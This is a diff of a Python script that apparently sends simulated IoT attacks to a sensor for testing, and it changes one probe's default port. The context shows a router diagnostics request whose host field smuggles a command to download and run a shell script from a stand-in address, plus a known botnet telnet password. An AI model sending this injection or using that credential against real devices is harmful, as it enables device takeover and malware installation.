@@ -41,6 +41,7 @@ INJECTION = (
     b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://192.0.2.7/bins/demo.sh"
     b"+-O+/tmp/demo.sh;sh+/tmp/demo.sh`&ipv=0"
 )
+UNEXPECTED_PORT = 9200  # one of the catch-all's
 TRY_S = 10.0
 
 
@@ -51,7 +52,7 @@ def add_arguments(parser: argparse.ArgumentParser) -> None:
     parser.add_argument(
         "--port",
         type=int,
-        help=f"the sensor's port (default: 23, 80 or 445, or those plus 10000), or the victim's ({PORT})",
+        help=f"the sensor's port (default: 23, 80 or {UNEXPECTED_PORT}, or those plus 10000), or the victim's ({PORT})",
     )
     parser.add_argument("--password", default="xc3511", help="for telnet's user root (default: %(default)s)")
     parser.add_argument("--again", action="store_true", help="bring a program that was not brought before")
@@ -105,7 +106,7 @@ def _http(arguments: argparse.Namespace) -> bool:
 
 
 def _bytes(arguments: argparse.Namespace) -> bool:
-    port = _port(arguments, 445)
+    port = _port(arguments, UNEXPECTED_PORT)
     print(f"tcp {arguments.host}:{port}: bytes that nobody expects …")
     with socket.create_connection((arguments.host, port), TRY_S) as peer:
         peer.sendall(b"\x16\x99demo " + hashlib.sha256(str(time.time()).encode()).digest())
